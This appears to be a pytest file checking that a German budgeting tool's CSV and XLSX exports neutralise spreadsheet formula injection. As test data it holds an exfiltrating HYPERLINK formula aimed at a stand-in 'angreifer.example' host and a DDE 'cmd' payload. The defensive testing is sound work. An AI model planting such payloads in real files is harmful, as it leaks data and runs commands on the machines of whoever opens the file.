"""Spreadsheet formula injection: text cells from project files never become live formulas.

The project ``tests/data/formel-injektion/`` carries partner names and Steckbrief titles that
start with ``=``, ``@``, ``+`` and a tab (OWASP CSV injection).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from digistrat.output_safety import FORMULA_TRIGGERS, csv_text, is_formula_like

PROJECT = Path(__file__).parent / "data" / "formel-injektion"
HYPERLINK = '=HYPERLINK("https://angreifer.example/?d="&A1;"Details")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_owasp_trigger_gets_an_apostrophe(start):
    assert start in FORMULA_TRIGGERS
    assert csv_text(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("text", ["Kreis Muster", "1+1", " =1", "E-Akte", "", "'=1"])
def test_plain_text_stays_as_it_is(text):
    assert not is_formula_like(text)
    assert csv_text(text) == text


def test_csv_cells_start_with_an_apostrophe(cli):
    result = cli("budget", PROJECT, "--format", "csv")
    assert result.code == 0, result
    lines = result.out.lstrip("\ufeff").split("\r\n")
    assert lines[1] == (
        'kreis-muster;"\'=HYPERLINK(""https://angreifer.example/?d=""&A1;""Details"")";'
        "2023;12000,00;4528,13;7471,87;0,00;0,00"
    )
    assert lines[4] == "stadt-muster;'@SUM(1+1);2023;70000,00;0,00;70000,00;0,50;0,50"
    by_sb = cli("budget", PROJECT, "--format", "csv-international", "--nach", "steckbrief").out.split("\r\n")
    assert by_sb[1] == "MK-02,'\tE-Akte,2023,40000.00,0.00,40000.00,0.50,0.50"
    assert by_sb[4] == "MK-01,'+1+cmd|' /C calc'!A0,2023,12000.00,4528.13,7471.87,0.00,0.00"


def test_xlsx_cells_are_text_with_quote_prefix(cli, tmp_path):
    import openpyxl

    out = tmp_path / "budget.xlsx"
    result = cli("budget", PROJECT, "--format", "xlsx", "--output", out)
    assert result.code == 0, result
    wb = openpyxl.load_workbook(out)
    partner = wb["Partner"]
    assert [c.value for c in partner[2]][:3] == ["kreis-muster", HYPERLINK, 2023]
    cell = partner["B2"]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert (partner["B5"].value, partner["B5"].data_type, partner["B5"].quotePrefix) == ("@SUM(1+1)", "s", True)
    assert partner["D2"].value == 12000  # figures stay numbers
    titles = {row[0].value: row[1] for row in wb["Steckbriefe"].iter_rows(min_row=2)}
    assert (titles["MK-01"].value, titles["MK-01"].quotePrefix) == ("+1+cmd|' /C calc'!A0", True)
    assert (titles["MK-02"].value, titles["MK-02"].quotePrefix) == ("\tE-Akte", True)
    # no formula anywhere in the workbook's XML
    import zipfile

    with zipfile.ZipFile(out) as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
